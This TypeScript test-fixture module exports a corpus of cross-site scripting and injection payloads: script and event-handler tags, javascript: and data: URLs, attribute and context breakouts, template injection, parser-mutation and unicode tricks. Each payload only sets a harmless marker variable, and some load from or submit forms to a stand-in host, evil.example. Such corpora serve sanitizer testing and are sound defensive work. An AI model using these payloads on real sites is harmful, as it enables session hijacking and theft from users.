/** What each of them tries to do: leave a trace that a test can see. */
const run = "window.hostileRan=1";

const tags = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script/x>${run}</script>`,
  `<script src=data:text/javascript,${run}></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}"//`,
  `<image src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload=${run}/>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.hostileRan=1</script>"></iframe></foreignObject></svg>`,
  `<body onload=${run}>`,
  `<iframe src="javascript:parent.hostileRan=1"></iframe>`,
  `<iframe srcdoc="<script>parent.hostileRan=1</script>"></iframe>`,
  `<object data="data:text/html,<script>top.hostileRan=1</script>"></object>`,
  `<embed src="data:text/html,<script>top.hostileRan=1</script>">`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<marquee onstart=${run}>`,
  `<div style="animation-name:spin" onanimationstart=${run}>`,
  `<a href=# id=x tabindex=1 onfocus=${run} autofocus>x</a>`,
  `<button popovertarget=x>x</button><xss onbeforetoggle=${run} popover id=x>y</xss>`,
  `<base href=//evil.example/>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<style>@import '//evil.example/x.css';*{background:url(//evil.example/x)}</style>`,
  `<form action=//evil.example/><input name=q><button autofocus>x</button></form>`,
  `<portal src=//evil.example/>`,
];

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `javascript://example.org/%0a${run}`,
  `<a href="javascript:${run}">click</a>`,
  `<a href="&#106;avascript:${run}">click</a>`,
  `[click](javascript:${run})`,
  `![x](x"onerror="${run})`,
  `[x]: javascript:${run}`,
  `<javascript:${run}>`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AuaG9zdGlsZVJhbj0xPC9zY3JpcHQ+`,
  `vbscript:msgbox(1)`,
  `blob:null/${run}`,
  `https://example.org/"onmouseover="${run}`,
  `https://javascript:${run}@example.org/`,
];

const closings = [
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `" autofocus onfocus="${run}`,
  `' autofocus onfocus='${run}`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</pre></article><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `*/${run}/*`,
  `";${run};//`,
  `';${run};//`,
  `\\";${run};//`,
  "`;" + run + ";//",
];

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `{{7*7}}`,
  "${" + run + "}",
  `#{${run}}`,
  `<%= ${run} %>`,
  `{%raw%}${run}{%endraw%}`,
  `{"$$typeof":"react.element","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${run}"}}}`,
  `$L1 $@1 $F1 $undefined 1:I["x",[],""]`,
  `self.__next_f.push([1,"0:{}"])`,
  `__proto__[innerHTML]=<img/src/onerror=${run}>`,
];

/** What a parser turns into something else than it read at first. */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<svg></p><style><a title="</style><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<?xml version="1.0"?><?xml-stylesheet href="javascript:${run}"?>`,
  `<template><script>${run}</script></template>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
];

const unicode = [
  `＜script＞${run}＜/script＞`,
  `‹script›${run}‹/script›`,
  `<ſcript>${run}</ſcript>`,
  `<script\u00a0>${run}</script>`,
  `<img src=x onerror=\u2028${run}>`,
  `<\u200bscript>${run}</script>`,
  `\u202e<script>${run}</script>\u202c`,
  `\ufeff<script>${run}</script>`,
  `<scr\u00adipt>${run}</scr\u00adipt>`,
  `<img src=x onerror\u0301=${run}>`,
];

/** Texts that would run, load or submit something if a page took them for markup, an address, code or a template. */
export const scriptCorpus: readonly string[] = [
  ...tags,
  ...addresses,
  ...closings,
  ...templates,
  ...mutations,
  ...unicode,
];

/** Those of one line with nothing in it that cannot be seen: the portal keeps no others in clear. */
export const plainCorpus: readonly string[] = scriptCorpus.filter((text) => !/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(text));
